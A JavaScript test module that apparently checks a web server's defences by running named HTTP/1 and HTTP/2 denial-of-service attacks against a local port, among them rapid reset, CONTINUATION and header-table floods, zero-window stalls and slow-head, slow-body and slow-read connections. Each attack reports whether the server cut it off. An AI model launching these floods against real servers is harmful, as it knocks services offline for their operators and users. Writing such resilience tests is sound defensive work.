/*
 * What strangers send, by name: each attack takes the port and { from, secure },
 * goes on until the server shuts it or its time is over, and returns
 * { shut, frames }: whether it was shut, and how many frames it could send.
 * As a program, for a load from a process of its own:
 *   node attacks.mjs PORT SECONDS [NAME...]    each over and over, all at once
 */
import { END_HEADERS, END_STREAM, Raw, TYPE, block, data, frame, get, http2, literal, ping, post, priority, reset, settings, windowUpdate } from './wire.mjs';

const ROUND = 50; // frames a write: the server may say stop in between
const FRAMES_MAX = 1000; // after so many it has to
const SHUT_MS = 20000; // however busy the machine is

/** Sends what `next(i)` returns, frame after frame, up to `most`, and no more: how many
 * it could send says less where the server is late. In between it waits for the server;
 * not within a header block, where no other frame may stand. */
async function flood(port, options, next, inBlock, most = FRAMES_MAX) {
  const raw = await http2(port, options);
  let frames = 0;
  for (let i = 0; i < most && !raw.isShut; i += ROUND) {
    const round = [];
    for (let j = i; j < i + ROUND; j++) round.push(next(j));
    if (!(await raw.write(...round))) break;
    if (inBlock) await raw.shutWithin(2);
    else await raw.sync();
    if (!raw.isShut) frames += ROUND;
  }
  const shut = await raw.shutWithin(SHUT_MS);
  raw.close();
  return { shut, frames };
}

const id = (i) => 2 * i + 1;
const nothing = Buffer.alloc(0);
const BEACON = JSON.stringify({ v: 1, site: 'attack', view: 'ffffffffffffffff', url: 'https://attack.example/' });

/** A request body that never ends, on stream 1, and then the frames. */
const onOpenStream = (next) => (i) => (i === 0 ? post(1) : next(i));

export const floods = {
  'rapid reset': (i) => (i % 2 ? reset(id(i >> 1)) : get(id(i >> 1), '/healthz')),
  'rapid reset of beacons': (i) => Buffer.concat([post(id(i)), data(id(i), BEACON), reset(id(i))]),
  'resets by WINDOW_UPDATE of 0': (i) => Buffer.concat([post(id(i)), windowUpdate(id(i), 0)]),
  'resets by a window that overflows': (i) => Buffer.concat([post(id(i)), windowUpdate(id(i), 0x7fffffff)]),
  'DATA on closed streams': (i) => (i === 0 ? get(1, '/healthz') : data(1, 'x', 0)),
  'requests without :path': (i) => frame(TYPE.HEADERS, END_STREAM | END_HEADERS, id(i), literal(':method', 'GET')),
  PING: () => ping(),
  SETTINGS: (i) => settings([4, 65535 + i]),
  'SETTINGS acknowledgements': () => frame(TYPE.SETTINGS, 1, 0),
  PRIORITY: onOpenStream((i) => priority(1, i % 2 ? 0 : 3)),
  'WINDOW_UPDATE': () => windowUpdate(0, 1),
  'empty DATA': onOpenStream(() => data(1, '', 0)),
  'DATA of one byte': onOpenStream(() => data(1, 'x', 0)),
  'empty CONTINUATION': (i) => (i === 0 ? frame(TYPE.HEADERS, 0, 1, block('GET', '/')) : frame(TYPE.CONTINUATION, 0, 1)),
  'CONTINUATION without end': (i) => (i === 0 ? frame(TYPE.HEADERS, 0, 1, block('GET', '/')) : frame(TYPE.CONTINUATION, 0, 1, literal('x-filler', 'y'.repeat(1000)))),
  'unknown frames': () => frame(0xbb, 0, 0, Buffer.from('nothing')),
  GOAWAY: () => frame(TYPE.GOAWAY, 0, 0, Buffer.alloc(8)),
};

/** A block of 8 KiB that names an entry of 4 KiB of the dynamic table over and over. */
async function headerBomb(port, options) {
  const raw = await http2(port, options);
  const entry = Buffer.concat([block('GET', '/'), literal('x-entry', 'z'.repeat(3900), 0x40)]);
  await raw.write(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, 1, entry));
  for (let i = 1; i <= 20 && !raw.isShut; i++)
    await raw.write(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, id(i), Buffer.concat([block('GET', '/'), Buffer.alloc(7800, 0xbe)])));
  return { shut: await raw.shutWithin(SHUT_MS), frames: 22 };
}

/** 20 streams, each with 0.4 MB of literals over CONTINUATION frames. */
async function headerBlocks(port, options) {
  const raw = await http2(port, options);
  let frames = 0;
  for (let i = 0; i < 20 && !raw.isShut; i++) {
    await raw.write(frame(TYPE.HEADERS, 0, id(i), block('POST', '/beacon')));
    for (let j = 0; j < 25 && !raw.isShut; j++, frames++)
      await raw.write(frame(TYPE.CONTINUATION, j === 24 ? END_HEADERS : 0, id(i), Buffer.concat(Array.from({ length: 1600 }, () => literal('a', 'bbbb')))));
  }
  return { shut: await raw.shutWithin(SHUT_MS), frames };
}

/** 4 KiB in the dynamic table, each of 2,000 references to which libh2o alone unpacks to 190 KB. */
async function cacheDigest(port, options) {
  const raw = await http2(port, options);
  const digest = literal('cache-digest', `-D${'_'.repeat(3989)}`, 0x40);
  await raw.write(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([block('GET', '/healthz'), digest])));
  for (let i = 1; i <= 5 && !raw.isShut; i++)
    await raw.write(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, id(i), Buffer.concat([block('GET', '/healthz'), Buffer.alloc(2000, 0xbe)])));
  const shut = await raw.shutWithin(SHUT_MS);
  raw.close();
  return { shut, frames: 6 };
}

/** Reads nothing, by a window of 0; with the connection kept busy by PINGs. */
async function stalled(port, options) {
  const raw = await http2(port, { ...options, settings: [[4, 0]] });
  await raw.write(...Array.from({ length: 50 }, (_, i) => get(id(i))));
  let frames = 51;
  for (; !raw.isShut && performance.now() - raw.opened < 40000; frames++) {
    await raw.write(ping());
    await raw.shutWithin(500);
  }
  const shut = raw.isShut;
  raw.close();
  return { shut, frames };
}

/** One byte of a body now and then. */
async function dribble(port, options) {
  const raw = await http2(port, options);
  await raw.write(post(1));
  let frames = 2;
  for (; !raw.isShut && performance.now() - raw.opened < 40000; frames++) {
    await raw.write(data(1, 'x', 0));
    await raw.shutWithin(500);
  }
  const shut = raw.isShut;
  raw.close();
  return { shut, frames };
}

/** HTTP/1: a head that never ends; a body that never does; an answer never read. */
const slow = (begin, drop) => async (port, options) => {
  const raw = await Raw.connect(port, options);
  await raw.write(begin);
  let frames = 1;
  for (; !raw.isShut && performance.now() - raw.opened < 40000; frames++) {
    await raw.write(drop);
    await raw.shutWithin(500);
  }
  const shut = raw.isShut;
  raw.close();
  return { shut, frames };
};

async function slowRead(port, options) {
  const raw = await Raw.connect(port, { ...options, reads: false });
  for (let i = 0; i < 3000 && raw.socket.writableLength < 1 << 16; i++) await Promise.race([raw.write('GET /drum.js HTTP/1.1\r\nHost: a\r\n\r\n'), raw.shutWithin(20)]);
  // Nothing is read, so the end is seen by a write.
  while (!raw.isShut && performance.now() - raw.opened < 40000) {
    raw.socket.write('\r\n');
    await raw.shutWithin(500);
  }
  const shut = raw.isShut;
  raw.close();
  return { shut, frames: 1 };
}

/** 100 bodies at once that stay incomplete. */
async function openBodies(port, options) {
  const raw = await http2(port, options);
  for (let i = 0; i < 100 && !raw.isShut; i++) await raw.write(post(id(i)), data(id(i), 'x'.repeat(16000), 0));
  let frames = 200;
  for (; !raw.isShut && performance.now() - raw.opened < 40000; frames++) {
    await raw.write(ping());
    await raw.shutWithin(500);
  }
  const shut = raw.isShut;
  raw.close();
  return { shut, frames };
}

/** HTTP/1: an address of 190,000 parameters above 100 reports, each of which has to find its site. */
async function longAddress(port, options) {
  const raw = await Raw.connect(port, options);
  const body = JSON.stringify(Array.from({ length: 100 }, (_, i) => ({ type: 'deprecation', url: 'https://attack.example/', body: { id: `${i}` } })));
  await raw.write(`POST /reports?${'a&'.repeat(190000)} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  const shut = await raw.shutWithin(20000);
  raw.close();
  return { shut, frames: 1 };
}

export const quick = { 'long address': longAddress, 'header bomb': headerBomb, 'header blocks': headerBlocks, 'cache-digest': cacheDigest };
for (const [name, next] of Object.entries(floods)) quick[name] = (port, options) => flood(port, options, next, name.includes('CONTINUATION'));

export const lingering = {
  'stalled by window 0': stalled, 'dribbled body': dribble, 'open bodies': openBodies,
  'slow head': slow('POST /beacon HTTP/1.1\r\n', 'x-a: b\r\n'),
  'slow body': slow('POST /beacon HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n', 'x'),
  'slow chunks': slow('POST /beacon HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n', '1\r\nx\r\n'),
  'slow PROXY-like line': slow('PROXY', ' '),
  'slow read': slowRead,
};

const [, program, port, seconds, ...names] = process.argv;
if (program.endsWith('attacks.mjs')) {
  const all = { ...quick, ...lingering }, until = performance.now() + Number(seconds) * 1000;
  let runs = 0;
  await Promise.all(Object.entries(all).filter(([name]) => names.length === 0 || names.includes(name)).map(async ([, attack], i) => {
    while (performance.now() < until) {
      await attack(Number(port), { from: `127.0.1.${1 + (i % 200)}` }).catch(() => new Promise((resolve) => setTimeout(resolve, 100)));
      runs++;
    }
  }));
  console.log(JSON.stringify({ runs }));
  process.exit(0);
}
